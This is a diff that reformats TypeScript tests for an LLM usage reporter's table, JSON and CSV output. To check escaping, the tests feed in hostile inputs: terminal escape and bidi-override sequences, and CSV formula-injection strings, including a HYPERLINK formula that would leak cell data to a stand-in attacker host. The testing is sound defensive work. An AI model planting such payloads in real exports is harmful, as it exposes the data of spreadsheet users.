@@ -6,8 +6,20 @@ import { usageCsv } from './usage-csv.ts';
 import { usageJson } from './usage-json.ts';
 import { usageTable } from './usage-table.ts';
 
-const usage = { uncachedInput: 1234, cacheRead: 5_000_000, cacheWrite5m: 10, cacheWrite1h: 1, output: 999, reasoning: 0 };
-const calls = [record({ model: 'claude-opus-5', usage, usd: 12.345 }), record({ model: 'gpt-99', usage: usageOf(7), usd: null }), record({ model: 'gpt-5', usage: usageOf(1000), usd: 0.000_12 }), record({ model: 'gpt-5', usd: null, status: 500, usage: usageOf(0) })];
+const usage = {
+  uncachedInput: 1234,
+  cacheRead: 5_000_000,
+  cacheWrite5m: 10,
+  cacheWrite1h: 1,
+  output: 999,
+  reasoning: 0,
+};
+const calls = [
+  record({ model: 'claude-opus-5', usage, usd: 12.345 }),
+  record({ model: 'gpt-99', usage: usageOf(7), usd: null }),
+  record({ model: 'gpt-5', usage: usageOf(1000), usd: 0.000_12 }),
+  record({ model: 'gpt-5', usd: null, status: 500, usage: usageOf(0) }),
+];
 const rows = summarise(calls, ['model']);
 
 describe('the table', () => {
@@ -25,13 +37,27 @@ describe('the table', () => {
   });
 
   test('drops columns where there is little room, and cuts names last', () => {
-    expect(usageTable(rows, 40)).toBe(['MODEL          INPUT  OUTPUT       USD', 'claude-opus-5  1 234     999     12.35', 'gpt-5          1 000       0  0.000120', 'gpt-99             7       0         ?', '?: the cost of 1 call is not known. Name prices under [[llm.prices]] in the policy.', ''].join('\n'));
-    expect(usageTable(rows, 35).split('\n').slice(0, 2)).toEqual(['MODEL       INPUT  OUTPUT       USD', 'claude-...  1 234     999     12.35']);
+    expect(usageTable(rows, 40)).toBe(
+      [
+        'MODEL          INPUT  OUTPUT       USD',
+        'claude-opus-5  1 234     999     12.35',
+        'gpt-5          1 000       0  0.000120',
+        'gpt-99             7       0         ?',
+        '?: the cost of 1 call is not known. Name prices under [[llm.prices]] in the policy.',
+        '',
+      ].join('\n'),
+    );
+    expect(usageTable(rows, 35).split('\n').slice(0, 2)).toEqual([
+      'MODEL       INPUT  OUTPUT       USD',
+      'claude-...  1 234     999     12.35',
+    ]);
   });
 
   test('shows that a sum is not all of the cost', () => {
     expect(usageTable(summarise(calls, []), 100)).toContain('12.35 + ?');
-    expect(usageTable(summarise([record({ usd: null }), record({ usd: null })], []), 100)).toContain('?: the cost of 2 calls is not known.');
+    expect(usageTable(summarise([record({ usd: null }), record({ usd: null })], []), 100)).toContain(
+      '?: the cost of 2 calls is not known.',
+    );
     expect(usageTable(summarise([record({ usd: 1 })], []), 100)).not.toContain('?');
   });
 
@@ -40,7 +66,10 @@ describe('the table', () => {
   });
 
   test('says nothing to a terminal that a name has in it', () => {
-    const table = usageTable(summarise([record({ model: '\u001b[31mred\u202e\nnew 世界', agent: 'a' })], ['model', 'agent', 'session']), 120);
+    const table = usageTable(
+      summarise([record({ model: '\u001b[31mred\u202e\nnew 世界', agent: 'a' })], ['model', 'agent', 'session']),
+      120,
+    );
     expect(table).toMatch(/^[ -~\n]*$/u);
     expect(table.split('\n')).toHaveLength(3);
     expect(table).toContain('\\u{1b}[31mred\\u{202e}\\u{a}new \\u{4e16}\\u{754c}');
@@ -49,10 +78,24 @@ describe('the table', () => {
   test('is as wide as it may be, where that is not too narrow', () => {
     const name = fc.string({ unit: 'binary', maxLength: 60 });
     fc.assert(
-      fc.property(fc.array(fc.record({ model: name, session: name, agent: name, usd: fc.option(fc.nat(1e6)) }), { minLength: 1, maxLength: 8 }), fc.integer({ min: 70, max: 160 }), (some, width) => {
-        const lines = usageTable(summarise(some.map((one) => record(one)), ['model', 'session', 'agent']), width).split('\n');
-        for (const line of lines.filter((one) => !one.startsWith('?:'))) expect(line.length).toBeLessThanOrEqual(width);
-      }),
+      fc.property(
+        fc.array(fc.record({ model: name, session: name, agent: name, usd: fc.option(fc.nat(1e6)) }), {
+          minLength: 1,
+          maxLength: 8,
+        }),
+        fc.integer({ min: 70, max: 160 }),
+        (some, width) => {
+          const lines = usageTable(
+            summarise(
+              some.map((one) => record(one)),
+              ['model', 'session', 'agent'],
+            ),
+            width,
+          ).split('\n');
+          for (const line of lines.filter((one) => !one.startsWith('?:')))
+            expect(line.length).toBeLessThanOrEqual(width);
+        },
+      ),
       { numRuns: 60 },
     );
   });
@@ -64,7 +107,14 @@ describe('the table', () => {
 
 describe('JSON', () => {
   test('has rows with their keys by name', () => {
-    expect(JSON.parse(usageJson(rows, 3))).toMatchObject({ unread: 3, rows: [{ key: { model: 'claude-opus-5' }, calls: 1, cacheRead: 5_000_000, usd: 12.345, unpriced: 0, tables: ['test'] }, { key: { model: 'gpt-5' }, failed: 1 }, { key: { model: 'gpt-99' }, usd: null, unpriced: 1 }] });
+    expect(JSON.parse(usageJson(rows, 3))).toMatchObject({
+      unread: 3,
+      rows: [
+        { key: { model: 'claude-opus-5' }, calls: 1, cacheRead: 5_000_000, usd: 12.345, unpriced: 0, tables: ['test'] },
+        { key: { model: 'gpt-5' }, failed: 1 },
+        { key: { model: 'gpt-99' }, usd: null, unpriced: 1 },
+      ],
+    });
     expect(usageJson([], 0)).toBe('{\n  "rows": [],\n  "unread": 0\n}\n');
   });
 });
@@ -97,20 +147,33 @@ describe('CSV', () => {
     expect(usageCsv(summarise([record({ usd: 3e-9 })], []), [])).toContain(',0.000000003,');
   });
 
-  test.each(['=HYPERLINK("https://evil.example/?"&A1)', '+1', '-1', '@SUM(A1)', '\uFF1Dcmd', '\uFF20x'])('makes %j text and no formula', (model) => {
-    const [, line] = parseCsv(usageCsv(summarise([record({ model })], ['model']), ['model']));
-    expect(line?.[0]).toBe(`'${model}`);
-  });
+  test.each(['=HYPERLINK("https://evil.example/?"&A1)', '+1', '-1', '@SUM(A1)', '\uFF1Dcmd', '\uFF20x'])(
+    'makes %j text and no formula',
+    (model) => {
+      const [, line] = parseCsv(usageCsv(summarise([record({ model })], ['model']), ['model']));
+      expect(line?.[0]).toBe(`'${model}`);
+    },
+  );
 
   test('says nothing to a terminal that a name has in it', () => {
-    expect(usageCsv(summarise([record({ model: '\u001b[2J\u202e' })], ['model']), ['model'])).toContain('\\u{1b}[2J\\u{202e},1,');
+    expect(usageCsv(summarise([record({ model: '\u001b[2J\u202e' })], ['model']), ['model'])).toContain(
+      '\\u{1b}[2J\\u{202e},1,',
+    );
   });
 
   test('keeps names whole, whatever is in them, and has as many cells in each line', () => {
     const name = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('a,b', 'a"b', 'a\r\nb', '"', ',', "'"));
     fc.assert(
       fc.property(fc.array(fc.record({ model: name, agent: name }), { maxLength: 8 }), (some) => {
-        const lines = parseCsv(usageCsv(summarise(some.map((one) => record(one)), ['model', 'agent']), ['model', 'agent']));
+        const lines = parseCsv(
+          usageCsv(
+            summarise(
+              some.map((one) => record(one)),
+              ['model', 'agent'],
+            ),
+            ['model', 'agent'],
+          ),
+        );
         expect(new Set(lines.map((line) => line.length))).toEqual(new Set([16]));
         for (const cell of lines.flat()) expect(cell).not.toMatch(/^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r]/u);
       }),
